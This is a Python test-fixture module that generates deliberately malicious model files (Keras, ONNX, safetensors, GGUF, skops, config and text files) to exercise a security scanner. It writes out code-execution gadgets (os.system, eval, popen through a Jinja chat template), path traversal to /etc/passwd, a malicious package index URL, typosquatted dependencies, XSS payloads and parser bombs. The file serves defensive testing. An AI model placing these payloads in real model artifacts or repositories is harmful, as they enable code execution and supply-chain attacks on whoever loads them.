"""Hostile files of the other formats, written byte by byte."""

import json
import struct
from collections.abc import Iterator
from typing import Any

from tests.tasks.scanners.corpus_containers import archived
from tests.tasks.scanners.corpus_pickles import EVIL


def keras() -> Iterator[tuple[str, bytes]]:
    def layer(**config: Any) -> dict[str, Any]:
        return {
            "module": "keras.layers",
            "class_name": "Dense",
            "config": {},
            "registered_name": None,
            **config,
        }

    trees = {
        "lambda": layer(class_name="Lambda"),
        "nested_lambda": layer(
            config={"layers": [layer(config={"layers": [layer(class_name="Lambda")]})]}
        ),
        "module": layer(module="os", class_name="system"),
        "function": layer(
            config={
                "activation": {"module": "builtins", "class_name": "function", "config": "eval"}
            }
        ),
        "lambda_code": layer(
            config={"fn": {"class_name": "__lambda__", "config": {"code": "4wA="}}}
        ),
        "registered": layer(registered_name="evil>Thing"),
        "get_file": layer(module="keras.utils", class_name="get_file"),
        "in_string": layer(config={"raw": json.dumps(layer(class_name="Lambda"))}),
        "tfsm": layer(class_name="TFSMLayer"),
    }
    for name, tree in trees.items():
        config = json.dumps(
            {"module": "keras", "class_name": "Sequential", "config": {"layers": [tree]}}
        )
        members = {
            "config.json": config.encode(),
            "metadata.json": b"{}",
            "model.weights.h5": b"\x89HDF\r\n\x1a\n",
        }
        yield f"{name}.keras", archived(members)
        yield f"{name}.h5", b"\x89HDF\r\n\x1a\n" + b"\0" * 500 + config.encode() + b"\0" * 64
        yield f"{name}.json", config.encode()


def protobuf(*fields: tuple[int, bytes | int]) -> bytes:
    out = b""
    for number, value in fields:
        if isinstance(value, int):
            out += _varint(number << 3) + _varint(value)
        else:
            out += _varint(number << 3 | 2) + _varint(len(value)) + value
    return out


def _varint(value: int) -> bytes:
    value &= (1 << 64) - 1
    out = b""
    while value > 0x7F:
        out += bytes([value & 0x7F | 0x80])
        value >>= 7
    return out + bytes([value])


def onnx_model(
    *, initializer: bytes = b"", node: bytes = b"", more: bytes = b"", second: bytes = b""
) -> bytes:
    graph = b""
    for number, part in ((1, node), (1, second), (5, initializer)):
        graph += protobuf((number, part)) if part else b""
    return (
        protobuf(
            (1, 8), (2, b"test"), (7, graph + protobuf((2, b"g"))), (8, protobuf((1, b""), (2, 17)))
        )
        + more
    )


def onnx() -> Iterator[tuple[str, bytes]]:
    def external(location: str, **more: str) -> bytes:
        pairs = {"location": location, **more}
        entries = [(13, protobuf((1, k.encode()), (2, v.encode()))) for k, v in pairs.items()]
        return protobuf((1, 4), (2, 1), (8, b"w"), *entries, (14, 1))

    for label, location in (
        ("parent", "../../etc/passwd"),
        ("absolute", "/etc/passwd"),
        ("backslash", "..\\x"),
        ("url", "http://a/b"),
    ):
        yield f"{label}.onnx", onnx_model(initializer=external(location))
    yield "offset.onnx", onnx_model(initializer=external("w.bin", offset="-5"))
    relu = protobuf((1, b"x"), (2, b"y"), (4, b"Relu"))
    yield (
        "custom_op.onnx",
        onnx_model(node=protobuf((1, b"x"), (2, b"y"), (4, b"Evil"), (7, b"evil.domain"))),
    )
    yield (
        "python_op.onnx",
        onnx_model(node=protobuf((1, b"x"), (2, b"y"), (4, b"PyOp"), (7, b"ai.onnx.contrib"))),
    )
    yield (
        "giant.onnx",
        onnx_model(initializer=protobuf((1, 1 << 31), (1, 1 << 31), (2, 1), (8, b"w"))),
    )
    yield "negative.onnx", onnx_model(initializer=protobuf((1, -4), (2, 1), (8, b"w")))
    yield (
        "cycle.onnx",
        onnx_model(
            node=protobuf((1, b"b"), (2, b"a"), (4, b"Relu")),
            second=protobuf((1, b"a"), (2, b"b"), (4, b"Relu")),
        ),
    )
    yield (
        "script_metadata.onnx",
        onnx_model(node=relu, more=protobuf((14, protobuf((1, b"k"), (2, b"<script>1</script>"))))),
    )
    yield "cut.onnx", onnx_model(node=relu)[:-3]


def safetensors() -> Iterator[tuple[str, bytes]]:
    def made(header: dict[str, Any] | bytes, data: bytes, length: int | None = None) -> bytes:
        text = header if isinstance(header, bytes) else json.dumps(header).encode()
        return struct.pack("<Q", len(text) if length is None else length) + text + data

    def entry(start: int, end: int, n: int | None = None) -> dict[str, Any]:
        return {
            "dtype": "F32",
            "shape": [(end - start) // 4 if n is None else n],
            "data_offsets": [start, end],
        }

    yield "overlap", made({"a": entry(0, 16), "b": entry(8, 24)}, b"\0" * 24)
    yield "gap", made({"a": entry(0, 16), "b": entry(32, 48)}, b"\0" * 48)
    yield (
        "duplicate",
        made(
            b'{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}',
            b"\0" * 16,
        ),
    )
    yield "trailing_pickle", made({"a": entry(0, 16)}, b"\0" * 16 + EVIL)
    yield "trailing_zip", made({"a": entry(0, 16)}, b"\0" * 16 + archived({"a": b"b"}))
    yield "header_bomb", made({"a": entry(0, 16)}, b"\0" * 16, length=1 << 62)
    yield "short", made({"a": entry(0, 1600)}, b"\0" * 16)
    yield "shape_lie", made({"a": entry(0, 16, n=400)}, b"\0" * 16)
    yield (
        "negative",
        made({"a": {"dtype": "F32", "shape": [-4], "data_offsets": [0, 16]}}, b"\0" * 16),
    )
    yield (
        "script",
        made({"__metadata__": {"n": "<script>alert(1)</script>"}, "a": entry(0, 16)}, b"\0" * 16),
    )
    yield "deep_header", made(b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}", b"")
    yield (
        "bad_dtype",
        made({"a": {"dtype": "OBJ", "shape": [4], "data_offsets": [0, 16]}}, b"\0" * 16),
    )


def gguf() -> Iterator[tuple[str, bytes]]:
    def text(value: str) -> bytes:
        return struct.pack("<Q", len(value)) + value.encode()

    def made(key: str, value: str, tensors: int = 0) -> bytes:
        return (
            b"GGUF"
            + struct.pack("<IQQ", 3, tensors, 1)
            + text(key)
            + struct.pack("<I", 8)
            + text(value)
        )

    yield (
        "template",
        made("tokenizer.chat_template", "{{ cycler.__init__.__globals__.os.popen('id') }}"),
    )
    yield "overflow", b"GGUF" + struct.pack("<IQQ", 3, 1 << 62, 1 << 62)
    yield "long_text", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 1 << 60)
    yield (
        "tensor_outside",
        made("a", "b", 1) + text("w") + struct.pack("<IQIQ", 1, 1 << 50, 0, 1 << 40),
    )


def skops() -> Iterator[tuple[str, bytes]]:
    def made(node: dict[str, Any]) -> bytes:
        base = {
            "__class__": "dict",
            "__module__": "builtins",
            "__loader__": "DictNode",
            "content": {"a": node},
            "protocol": 2,
        }
        return archived({"schema.json": json.dumps(base).encode()})

    yield (
        "function",
        made(
            {
                "__class__": "system",
                "__module__": "os",
                "__loader__": "FunctionNode",
                "content": None,
            }
        ),
    )
    yield (
        "old_function",
        made(
            {
                "__class__": "function",
                "__module__": "builtins",
                "__loader__": "FunctionNode",
                "content": {"module_path": "subprocess", "function": "run"},
            }
        ),
    )
    yield (
        "foreign_type",
        made(
            {
                "__class__": "Thing",
                "__module__": "mypackage.things",
                "__loader__": "ObjectNode",
                "content": {},
            }
        ),
    )
    yield (
        "method",
        made(
            {
                "__class__": "methodcaller",
                "__module__": "operator",
                "__loader__": "OperatorFuncNode",
                "attrs": {},
            }
        ),
    )
    yield (
        "pickle_member",
        archived(
            {
                "schema.json": b'{"__class__":"dict","__module__":"builtins",'
                b'"__loader__":"DictNode","content":{}}',
                "1.npy": EVIL,
            }
        ),
    )


def texts() -> Iterator[tuple[str, bytes]]:
    yield "config.json", b'{"auto_map": {"AutoModel": "evil--repo.modeling.Model"}}'
    yield "trust.json", b'{"trust_remote_code": true}'
    yield (
        "tokenizer_config.json",
        json.dumps(
            {"chat_template": "{% for m in messages %}{{ ''.__class__.__mro__ }}{% endfor %}"}
        ).encode(),
    )
    yield "deep.json", b"[" * 200_000 + b"]" * 200_000
    yield "README.md", b"# Model\n<script>fetch('//x')</script>\n"
    yield "handler.md", b"# Model\n<img src=x onerror=alert(1)>\n"
    yield "escape.txt", b"hello \x1b]0;evil\x07"
    yield "modeling.py", b"import os\nclass Model:\n    pass\n"
    yield "install.sh", b"#!/bin/sh\necho hi\n"
    yield "lib.so", b"\x7fELF\x02\x01\x01" + b"\0" * 100
    yield "run.exe", b"MZ" + b"\0" * 58 + struct.pack("<L", 64) + b"PE\0\0" + b"\0" * 64
    yield "conf.yaml", b"a: !!python/object/apply:os.getcwd []\n"
    yield "requirements.txt", b"numpy\n--index-url http://evil.example/simple\n"
    yield "twin/requirements.txt", b"nunpy==1.0\nscikit-leam\n"
    yield "secret.env", b"AWS_ACCESS_KEY_ID=AKIA" + b"ABCDEFGH12345678\n"
    yield "empty.pkl", b""
    yield "page.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'></svg>"
    yield (
        "saved_model.pb",
        protobuf((1, 1), (2, protobuf((2, protobuf((1, protobuf((1, b"r"), (2, b"ReadFile")))))))),
    )
    yield "notes.ipynb", b'{"cells": [], "nbformat": 4}'
    yield "hidden.txt", "order \u202e reversed".encode()
